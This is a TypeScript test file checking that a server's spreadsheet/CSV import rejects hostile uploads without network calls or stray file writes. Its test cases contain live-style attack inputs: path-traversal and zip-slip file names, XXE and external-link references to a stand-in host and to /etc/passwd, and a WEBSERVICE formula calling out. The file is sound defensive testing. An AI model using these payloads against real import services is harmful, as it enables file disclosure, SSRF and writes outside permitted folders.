import dns from 'node:dns'
import fs from 'node:fs'
import net from 'node:net'
import path from 'node:path'
import { strToU8, zipSync } from 'fflate'
import { afterAll, beforeAll, expect, it, vi } from 'vitest'
import type { ImportBatch } from '#api/import.ts'
import { testApp, type Session, type TestApp } from '../../support/app.ts'
import { upload } from '../../support/upload.ts'
import { textRows, workbook } from '../../support/workbook.ts'

let arus: TestApp
let admin: Session
const sockets = vi.spyOn(net.Socket.prototype, 'connect')
const lookups = vi.spyOn(dns, 'lookup')

beforeAll(async () => {
  arus = await testApp()
  admin = await arus.signIn('admin')
})

afterAll(() => {
  vi.restoreAllMocks()
})

/** Everything below a folder with size, but what the server keeps for itself. */
function filesOf(folder: string, but: string): readonly string[] {
  return fs.readdirSync(folder, { recursive: true, withFileTypes: true }).map((entry) => path.join(entry.parentPath, entry.name)).filter((name) => !name.startsWith(but))
}

async function settled(id: number): Promise<ImportBatch> {
  for (;;) {
    const { data } = await admin.get(`/api/v1/import-batch/${id}`)
    if (data.record.Work === null) return data.record
    await new Promise((resolve) => setTimeout(resolve, 10))
  }
}

const rows = textRows([['Code', 'Name'], ['A', 'B']])
const linked = (target: string): Buffer => workbook(rows, {
  'xl/_rels/workbook.xml.rels': `<Relationships><Relationship Id="rId1" TargetMode="External" Target="${target}"/></Relationships>`,
})
const traversing = Buffer.from(zipSync({ '../../../escaped.txt': strToU8('out'), '/tmp/escaped.txt': strToU8('out'), 'xl/workbook.xml': strToU8('<workbook><sheets/></workbook>') }))

const cases: readonly (readonly [what: string, name: string, file: Buffer | string, problem: string | undefined])[] = [
  ['a name that climbs', '../../../../climbed.csv', 'Code,Name\nA,B', undefined],
  ['a name with NUL and slashes', 'a\u0000/..\\b.csv', 'Code,Name\nA,B', undefined],
  ['parts that climb out of the ZIP file', 'zip.xlsx', traversing, 'FILE_BROKEN'],
  ['a sheet on another computer', 'link.xlsx', linked('http://192.0.2.1/sheet1.xml'), 'FILE_BROKEN'],
  ['a sheet on this computer', 'link.xlsx', linked('file:///etc/passwd'), 'FILE_BROKEN'],
  ['an entity on another computer', 'xxe.xlsx', workbook(rows, { 'xl/workbook.xml': '<!DOCTYPE x [<!ENTITY e SYSTEM "http://192.0.2.1/x">]><workbook><sheets><sheet name="&e;" r:id="rId1"/></sheets></workbook>' }), 'FILE_BROKEN'],
  ['a formula that calls', 'web.xlsx', workbook('<row r="1"><c r="A1" t="inlineStr"><is><t>Code</t></is></c></row><row r="2"><c r="A2" t="str"><f>WEBSERVICE("http://192.0.2.1/")</f><v>got</v></c></row>'), undefined],
  ['heads twice, named like inner parts, and none', 'heads.csv', 'Code,Code,__proto__,constructor,toString,,Name\nA,B,C,D,E,F,G', undefined],
  ['NUL behind an escape', 'nul.xlsx', workbook(textRows([['Code', 'Name'], ['A', 'B_x0000_C']])), 'FILE_BROKEN'],
  ['NUL in UTF-16', 'nul.csv', Buffer.from(`\uFEFFCode,Name\nA,B\u0000C`, 'utf16le'), 'FILE_BROKEN'],
  ['NUL far behind the beginning', 'nul.csv', `Code,Name\n${'A,B\n'.repeat(80_000)}A,B\u0000C`, 'FILE_BROKEN'],
  ['NUL bytes in a text', 'nul.csv', 'Code,Name\nA,B\u0000C', 'FILE_BROKEN'],
  ['nothing at all', 'empty.csv', '', 'FILE_EMPTY'],
]

it('hostile files call nobody, write nowhere else and leave the server as it was', async () => {
  const around = path.dirname(arus.filesFolder)
  const before = filesOf(around, arus.filesFolder)
  sockets.mockClear()
  lookups.mockClear()
  for (const [what, name, file, problem] of cases) {
    const sent = await upload(arus.app, admin.token, '/api/v1/import/item.import', { name, bytes: file })
    if (sent.status !== 200) {
      // Refused before anything of it was kept.
      expect([what, sent.status >= 400 && sent.status < 500, problem]).toEqual([what, true, expect.any(String)])
      continue
    }
    const batch = await settled(sent.data.record.ID)
    expect([what, batch.Status, batch.Problem?.key?.split('.')[1]]).toEqual([what, problem === undefined ? 1 : 5, problem])
    expect([what, batch.FileName]).toEqual([what, expect.not.stringContaining("/")])
    await admin.post(`/api/v1/import-batch/${batch.ID}/cancel`)
  }
  expect([...sockets.mock.calls, ...lookups.mock.calls].map((call) => JSON.stringify(call)).filter((host) => !/127\.0\.0\.1|localhost|\/postgresql|\.s\.PGSQL/.test(host))).toEqual([])
  expect(filesOf(around, arus.filesFolder)).toEqual(before)
  for (const name of ['/tmp/escaped.txt', path.join(around, 'climbed.csv'), path.resolve('escaped.txt')]) expect([name, fs.existsSync(name)]).toEqual([name, false])
  // What is kept has a name of the server's, inside its folder.
  expect(filesOf(arus.filesFolder, '/nowhere').filter((name) => /climbed|escaped|evil/.test(name))).toEqual([])
  expect((await admin.get('/api/v1/health')).status).toBe(200)
})
